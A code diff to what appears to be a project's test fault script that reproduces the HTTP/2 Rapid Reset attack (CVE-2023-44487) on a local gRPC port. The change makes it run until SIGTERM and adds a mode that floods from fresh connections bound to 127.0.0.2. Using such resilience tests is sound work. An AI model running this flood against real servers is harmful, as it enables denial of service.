@@ -1,16 +1,17 @@
 """Opens gRPC calls on one connection and resets each at once, as fast as it can: CVE-2023-44487.
 
-`python -m tests.faults.rapid_reset PORT SECONDS` prints how many calls that were.
-When it is cut off it comes again.
+`python -m tests.faults.rapid_reset PORT` goes on until SIGTERM, and prints how many calls that were.
+When it is cut off it comes again. With a second argument it makes a new connection after so many calls, from
+127.0.0.2, whether or not the first ones were taken.
 """
 
 from __future__ import annotations
 
 import contextlib
+import signal
 import socket
 import sys
 import threading
-import time
 
 from hyperframe.frame import Frame, PingFrame, SettingsFrame
 
@@ -19,18 +20,35 @@ TOGETHER = 50
 
 
 def main() -> None:
-    port, until = int(sys.argv[1]), time.monotonic() + float(sys.argv[2])
-    calls = 0
-    while time.monotonic() < until:
+    port, ended, calls = int(sys.argv[1]), threading.Event(), 0
+    signal.signal(signal.SIGTERM, lambda *_: ended.set())
+    if len(sys.argv) > 2:
+        print(by_connections(port, ended, int(sys.argv[2])))  # noqa: T201  # for who started it
+        return
+    while not ended.is_set():
         with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), 5) as connection:
             connection.sendall(PREFACE + SettingsFrame(0).serialize())
             threading.Thread(target=acknowledge, args=(connection,), daemon=True).start()
             for first in range(1, 1 << 30, 2 * TOGETHER):
                 connection.sendall(b"".join(opened_and_reset(first + 2 * n) for n in range(TOGETHER)))
                 calls += TOGETHER
-                if time.monotonic() > until:
+                if ended.is_set():
                     break
     print(calls)  # noqa: T201  # for who started it
+
+
+def by_connections(port: int, ended: threading.Event, each: int) -> int:
+    """New connections until it is ended, with so many calls on each."""
+    flood = b"".join(opened_and_reset(1 + 2 * call) for call in range(each))
+    calls = 0
+    while not ended.is_set():
+        with contextlib.suppress(OSError), socket.socket() as connection:
+            connection.bind(("127.0.0.2", 0))
+            connection.settimeout(2)
+            connection.connect(("127.0.0.1", port))
+            connection.sendall(PREFACE + SettingsFrame(0).serialize() + flood)
+            calls += each
+    return calls
 
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
